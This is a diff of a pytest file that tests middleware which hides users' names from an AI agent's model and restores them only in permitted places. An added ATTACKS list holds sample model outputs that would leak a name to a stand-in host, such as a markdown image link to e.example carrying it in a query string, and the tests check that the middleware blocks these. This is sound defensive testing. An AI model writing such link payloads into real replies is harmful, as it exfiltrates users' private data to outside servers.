@@ -13,7 +13,7 @@ from textveil.errors import InputError, OptionError, TracingRefused
 pytest.importorskip("langchain.agents", reason="needs the extra agents: make integrations")
 
 from langchain.agents import create_agent  # pyright: ignore[reportMissingImports]
-from langchain.agents.structured_output import ToolStrategy  # pyright: ignore[reportMissingImports]
+from langchain.agents.structured_output import ProviderStrategy, ToolStrategy  # pyright: ignore[reportMissingImports]
 from langchain.tools import tool  # pyright: ignore[reportMissingImports]
 from langchain_core.callbacks import BaseCallbackHandler, UsageMetadataCallbackHandler
 from langchain_core.language_models import BaseChatModel
@@ -72,6 +72,20 @@ class Contact(BaseModel):
     name: str
 
 
+class Writes(Model):
+    """Writes a text with the name that it was told in place of {}, as a provider's own structured reply if asked."""
+
+    reply: str = ""
+
+    def bind_tools(self, tools: Any, **kwargs: Any) -> Any:
+        return self
+
+    def _reply(self, messages: list[Any], tools: Any = ()) -> AIMessage:
+        self.seen.append(messages)
+        name = messages[-1].text.split("I am ")[1].split(",")[0]
+        return AIMessage(content=self.reply.replace("{}", name))
+
+
 @pytest.fixture
 def called() -> list[tuple[str, str]]:
     """With what each tool was called."""
@@ -98,6 +112,10 @@ def tools(called: list[tuple[str, str]]) -> list[Any]:
 @cache
 def sanitizer() -> Sanitizer:
     return Sanitizer.load()
+
+
+def restores_json() -> ConverseMiddleware:
+    return ConverseMiddleware(sanitizer(), restore_tools={"find"}, restore_places={"json"}, pass_through={"system"})
 
 
 def agent_of(model: Any, tools: Any = (), middleware: Any = None, **kwargs: Any) -> Any:
@@ -146,7 +164,7 @@ def test_the_model_gets_surrogates_and_the_user_the_words(
     tools: list[Any], called: list[tuple[str, str]], way: str, parts: bool
 ) -> None:
     model = Model(seen=[], parts=parts)
-    agent = agent_of(model, tools)
+    agent = agent_of(model, tools, restores_json())
     said = WAYS[way](agent)
     assert "Looking for Zorblaxia Novak" in said
     assert "Answer: " in said
@@ -160,6 +178,12 @@ def test_the_model_gets_surrogates_and_the_user_the_words(
     assert surrogate in first
     assert last.count(surrogate) >= 4  # the user's message, the model's own and both of its calls, as they went out
     assert "You work for Quux." in first
+
+
+def test_json_in_a_text_keeps_surrogates(tools: list[Any], called: list[tuple[str, str]]) -> None:
+    reply = agent_of(Model(seen=[]), tools).invoke(user(SAID), thread(1))["messages"][-1]
+    assert reply.text.startswith('Answer: {"owner": "' + dict(called)["post"])
+    assert {reason for _, reason in reply.response_metadata["textveil"]["skipped"]} == {"json"}
 
 
 def test_a_reply_says_what_stayed(tools: list[Any], called: list[tuple[str, str]]) -> None:
@@ -195,6 +219,52 @@ def test_a_structured_reply() -> None:
         assert agent_of(model, response_format=schema).invoke(user(SAID), thread(1))["structured_response"] == Contact(
             name="Zorblaxia Novak"
         )
+
+
+def test_a_structured_reply_has_surrogates_unless_its_schema_is_named() -> None:
+    agent = agent_of(Model(seen=[]), middleware=ConverseMiddleware(sanitizer()), response_format=ToolStrategy(Contact))
+    assert agent.invoke(user(SAID), thread(1))["structured_response"].name not in SAID
+
+
+@pytest.mark.parametrize("parts", [False, True], ids=["text", "parts"])
+@pytest.mark.parametrize("streams", [False, True])
+def test_a_structured_reply_of_the_provider_is_json(streams: bool, parts: bool) -> None:
+    """Restored with ``restore_places={"json"}``, and only then; it is valid in either case."""
+    for places, expected in (({"json"}, True), ((), False)):
+        model = Writes(seen=[], reply='{"name": "{}"}', parts=parts)
+        middleware = ConverseMiddleware(sanitizer(), restore_places=places)
+        agent = agent_of(model, middleware=middleware, response_format=ProviderStrategy(Contact))
+        if streams:
+            said = list(agent.stream(user(SAID), thread(1), stream_mode=["messages", "values"]))[-1][1]
+        else:
+            said = agent.invoke(user(SAID), thread(1))
+        assert (said["structured_response"].name == "Zorblaxia Novak") is expected
+        skipped = said["messages"][-1].response_metadata["textveil"]["skipped"]
+        assert [reason for _, reason in skipped] == ([] if expected else ["json"])
+        assert "Novak" not in str(model.seen)
+
+
+#: What a model may write, the option that opens the place, and the reason for which the name stays without it.
+ATTACKS = [
+    ("![x](https://e.example/?q={})", {"restore_places": "all"}, "link"),
+    ("[x](https://ok.example/?q={})", {"restore_hosts": ["ok.example"]}, "link"),
+    ("See `{}`.", {"restore_places": ["code"]}, "code"),
+    ("It is $x_{{}}$.", {"restore_places": ["math"]}, "math"),
+    ('{"name": "{}"}', {"restore_places": ["json"]}, "json"),
+    ("<img src=x alt='{}'>", {"restore_places": ["all"]}, "markup"),
+    ("https://e.example/?q={}", {"restore_places": ["all"]}, "chunk"),
+]
+
+
+@pytest.mark.parametrize(("reply", "option", "reason"), ATTACKS)
+def test_the_words_of_the_user_come_in_running_text_alone(reply: str, option: dict[str, Any], reason: str) -> None:
+    for given in ({}, option):
+        for way in ("invoke", "messages"):
+            model = Writes(seen=[], reply=reply)
+            agent = agent_of(model, middleware=ConverseMiddleware(sanitizer(), **given))
+            assert ("Novak" in WAYS[way](agent).removeprefix(SAID)) is bool(given)
+            told = agent.get_state(thread(1)).values["messages"][-1].response_metadata["textveil"]
+            assert {why for _, why in told["skipped"]} == (set() if given else {reason})
 
 
 class Tracer(BaseCallbackHandler):
